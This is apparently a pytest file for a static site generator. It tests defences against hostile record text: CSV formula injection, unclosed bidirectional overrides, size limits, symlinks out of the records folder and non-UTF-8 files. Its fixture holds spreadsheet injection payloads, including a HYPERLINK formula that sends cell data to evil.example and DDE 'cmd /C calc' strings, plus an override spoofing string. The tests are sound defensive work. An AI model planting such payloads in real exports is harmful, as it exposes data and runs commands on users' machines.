"""Hostile text that attacks a position: the start of a spreadsheet cell, the writing direction of
the page after it, the memory of the build, files outside the records folder, a file that is not
UTF-8. Each is either made harmless where it is shown or refused with its location."""

from __future__ import annotations

import csv
import io
import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from rihla.cli import main
from rihla.load import load_knowledge_base
from rihla.load.loader import MAX_FILE_BYTES
from rihla.yaml_source import MAX_TEXT_LENGTH
from rihla.model.text import unbalanced_bidi
from rihla.export.directory_data import CSV_NAME, DATA_DIR, FORMULA_STARTS, JSON_NAME
from rihla.render.renderer import Renderer
from rihla.render.settings import SiteSettings
from tests.helpers import LANGUAGES, MINIMAL_RECORDS, BuiltSite, build_site, write_records
from rihla.site_language import language_dir

RLO, PDF = "\u202e", "\u202c"

HOSTILE_ORGANISATION = """
    cities:
      - id: formula-city
        name: {fr: "\\r=1+1", en: "-1+1"}
        country: "NL"
    themes:
      - id: formula-theme
        label: {fr: "＝1+1", en: "@SUM(1+1)"}
    organisations:
      - id: formula-org
        name:
          fr: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
          en: "=cmd|' /C calc'!A0"
          nl: "+cmd|' /C calc'!A0"
          ar: "@SUM(1+1)*cmd|' /C calc'!A0"
        acronym: {fr: "-2+3", en: "+A1"}
        other_names: ["=1+1", "@A1"]
        address: "\\t=1+1"
        kind: agency
        level: none
        country: "NL"
        city: formula-city
        themes: [formula-theme]
      - id: mixed-direction
        name: {fr: "Centre \u202e2202 erbotco\u202c مركز التبسيط 5", en: "Centre مركز 2022"}
        kind: agency
        level: federal
        country: "BE"
        city: brussels
"""
"""Payloads that start CSV cells (name, acronym, other names, address, city, theme), and a name
mixing directions with a balanced override."""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> BuiltSite:
    folder = tmp_path_factory.mktemp("hostile-text")
    records = Path(shutil.copytree(MINIMAL_RECORDS, folder / "missions"))
    write_records(records, {"hostile.yml": HOSTILE_ORGANISATION})
    site = build_site(folder, records, build_date="2023-03-01")
    assert site.returncode == 0, site.output
    return site


def language_root(site: BuiltSite, language: str) -> Path:
    return language_dir(site.site_dir, language, LANGUAGES[0])


# Spreadsheet cells -----------------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_csv_cells_that_would_start_a_formula_read_as_text(hostile_site: BuiltSite, language: str) -> None:
    """Every cell a payload starts is the payload behind an apostrophe, which spreadsheets read as text."""
    folder = language_root(hostile_site, language) / DATA_DIR
    published = {org["id"]: org for org in json.loads((folder / JSON_NAME).read_text(encoding="utf-8"))["organisations"]}
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO((folder / CSV_NAME).read_text(encoding="utf-8-sig")))}
    org, row = published["formula-org"], rows["formula-org"]
    payloads = {
        "name": org["name"],
        "acronym": org["acronym"],
        "other_names": "; ".join(org["names"]["other"]),
        "address": org["address"],
        "city_name": org["city"]["name"],
        "theme_labels": org["themes"][0]["label"],
    }
    # The test's own oracle: each payload does start its cell (the JSON keeps texts as written).
    assert all(payload.startswith(FORMULA_STARTS) for payload in payloads.values()), payloads
    for column, payload in payloads.items():
        assert row[column] == "'" + payload, column
    starts = [(row["id"], column, cell) for row in rows.values() for column, cell in row.items()
              if cell.startswith(FORMULA_STARTS)]
    assert starts == []


# Writing direction ---------------------------------------------------------------------------------


class DirectionContext(HTMLParser):
    """Records, for each piece of text holding `marker`, the elements it sits in."""

    def __init__(self, marker: str) -> None:
        super().__init__(convert_charrefs=True)
        self.marker = marker
        self.stack: list[tuple[str, dict[str, str]]] = []
        self.found: list[tuple[list[tuple[str, dict[str, str]]], str]] = []
        self.title = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("br", "img", "meta", "link", "input", "hr", "wbr", "source"):
            self.stack.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self.stack) - 1, -1, -1):
            if self.stack[index][0] == tag:
                del self.stack[index:]
                break

    def handle_data(self, data: str) -> None:
        if self.stack and self.stack[-1][0] == "title":
            self.title += data
        elif self.marker in data:
            self.found.append((list(self.stack), data))


def isolating(element: tuple[str, dict[str, str]]) -> bool:
    """`<bdi>`, or an element with `dir` (HTML's rendering rules isolate both)."""
    tag, attributes = element
    return tag == "bdi" or attributes.get("dir") in ("ltr", "rtl")


@pytest.mark.parametrize("page", ["organisations/mixed-direction", "directory", "organisations/formula-org"])
def test_text_mixing_directions_is_isolated_from_the_page_around_it(hostile_site: BuiltSite, page: str) -> None:
    """Wherever the French name mixing Arabic and an override is shown, it sits in its own
    direction context, closer to it than the block the page writes around it."""
    html = hostile_site.html("fr", page)
    parser = DirectionContext("2202 erbotco")
    parser.feed(html)
    if page == "organisations/formula-org":  # the oracle: a page without the name finds none
        assert parser.found == []
        return
    in_article = [stack for stack, _ in parser.found if any(tag == "article" for tag, _ in stack)]
    assert in_article, "the hostile name is not on the page"
    for stack in in_article:
        assert isolating(stack[-1]), stack[-3:]
    # Outside the article, the theme writes the page's title alone in its element: balanced there.
    for _, data in parser.found:
        assert unbalanced_bidi(data) is None
    assert unbalanced_bidi(parser.title) is None and parser.title.endswith(" - Rihla")


def test_the_page_title_closes_what_a_text_opens() -> None:
    """Second line of defence, behind `check`: a text that opens an override and does not close it
    (refused when loading) is still closed within itself in the page's title and isolated in its body."""
    knowledge = load_knowledge_base(MINIMAL_RECORDS)
    organisation = knowledge.organisations["asa"]
    organisation.name["fr"] = f"Agence {RLO}2202 erbotco"
    renderer = Renderer(knowledge, SiteSettings())
    page = renderer.pages[("organisation", "asa")]
    markdown = renderer.render(page, "fr")
    title_line = next(line for line in markdown.splitlines() if line.startswith("title:"))
    title = json.loads(title_line.removeprefix("title:").strip())
    assert title.count(RLO) == 1 and title.endswith(PDF)
    parser = DirectionContext("2202 erbotco")
    parser.feed(markdown.split("\n---\n", 1)[1])  # the body, after the front matter
    assert parser.found
    for stack, _ in parser.found:
        assert isolating(stack[-1]), stack[-3:]


# Refused with a location ---------------------------------------------------------------------------


def check(records: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    """`rihla check` on `records`: its exit code and the lines it printed."""
    code = main(["check", str(records)])
    captured = capsys.readouterr()
    return code, [line for line in (captured.out + captured.err).splitlines() if line.strip()]


def minimal_copy(records: Path) -> Path:
    shutil.rmtree(records)
    return Path(shutil.copytree(MINIMAL_RECORDS, records))


def test_an_override_left_open_is_refused_with_its_location(records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`check` names the file, line, column and field of a text that opens an override and never closes it."""
    minimal_copy(records)
    write_records(records, {"extra.yml": f"""
        themes:
          - id: reversed
            label: {{fr: "Thème {RLO}inversé", en: "Balanced {RLO}text{PDF} is fine"}}
        """})
    code, lines = check(records, capsys)
    assert code == 1
    assert lines[0] == (
        "missions/extra.yml:3:17: themes[0].label.fr: the right-to-left override (U+202E) at character 7 is not "
        "closed, and would change the direction of the page after this text; close it with U+202C or remove it"
    )
    assert lines[1:] == ["1 problem found in the records; nothing was published."]


def test_a_text_over_the_size_limit_is_refused_with_its_location(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A value longer than the limit is named at its place; a value at the limit is accepted."""
    minimal_copy(records)
    write_records(records, {"extra.yml": f"""
        themes:
          - id: long
            label: {{fr: "{'x' * MAX_TEXT_LENGTH}", en: "{'y' * (MAX_TEXT_LENGTH + 1)}"}}
        """})
    column = (records / "extra.yml").read_text(encoding="utf-8").splitlines()[2].index('"y') + 1
    code, lines = check(records, capsys)
    assert code == 1
    assert lines[0] == (
        f"missions/extra.yml:3:{column}: themes[0].label.en: this text has {MAX_TEXT_LENGTH + 1:,} "
        f"characters, more than the {MAX_TEXT_LENGTH:,} a value may hold; shorten it"
    )
    assert len(lines) == 2


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A records file larger than the limit is named, and nothing in it is read."""
    minimal_copy(records)
    with (records / "huge.yml").open("w", encoding="utf-8") as huge:
        huge.write("themes:\n")
        line = "  - {id: t, label: " + "x" * 1000 + "}\n"
        for _ in range(MAX_FILE_BYTES // len(line) + 1):
            huge.write(line)
    code, lines = check(records, capsys)
    assert code == 1
    assert lines[0] == (f"missions/huge.yml:1:1: this file has 16 MB, more than the 16 MB a records file may hold; "
                        "split it into several files")
    assert len(lines) == 2


def test_links_out_of_the_records_folder_are_refused(
    tmp_path: Path, records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A file or a mission folder that links outside the records folder is refused; a link inside it is read."""
    minimal_copy(records)
    outside = write_records(tmp_path / "elsewhere", {
        "secret.yml": "themes:\n  - id: secret\n    label: Secret outside the repository\n",
        "mission/mission.yml": "themes:\n  - id: secret-two\n    label: Also outside\n",
    })
    (records / "secret.yml").symlink_to(outside / "secret.yml")
    (records / "linked-mission").symlink_to(outside / "mission", target_is_directory=True)
    write_records(records, {"_parts/inside.yml": "themes:\n  - id: inside\n    label: Inside\n"})
    (records / "inside.yml").symlink_to(records / "_parts" / "inside.yml")
    code, lines = check(records, capsys)
    assert code == 1
    assert lines == [
        f"missions/linked-mission:1:1: a link to {(outside / 'mission').as_posix()}, outside the records folder; "
        "copy it into missions instead",
        f"missions/secret.yml:1:1: a link to {(outside / 'secret.yml').as_posix()}, outside the records folder; "
        "copy it into missions instead",
        "2 problems found in the records; nothing was published.",
    ]
    (records / "secret.yml").unlink()
    (records / "linked-mission").unlink()
    code, lines = check(records, capsys)
    assert code == 0, lines  # the link inside the folder is read like any file
    assert "inside" in load_knowledge_base(records).themes


def test_a_file_that_is_not_utf8_is_reported_at_its_line_and_column_alone(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A Latin-1 byte is reported where an editor shows it, and the records that refer to the
    unreadable file's records are not reported as unknown."""
    minimal_copy(records)
    shared = records / "shared.yml"
    text = shared.read_text(encoding="utf-8").replace("Simplifie les démarches", "Simplifie les d\x00marches")
    line = next(number for number, content in enumerate(text.splitlines(), 1) if "\x00" in content)
    column = text.splitlines()[line - 1].index("\x00") + 1
    shared.write_bytes(text.encode("utf-8").replace(b"\x00", b"\xe9"))  # é in Latin-1
    code, lines = check(records, capsys)
    assert code == 1
    assert lines == [
        f"missions/shared.yml:{line}:{column}: not UTF-8 text (the byte 0xE9); save the file as UTF-8 "
        "(in most editors: File, Save with Encoding, UTF-8)",
        "1 problem found in the records; nothing was published.",
    ]
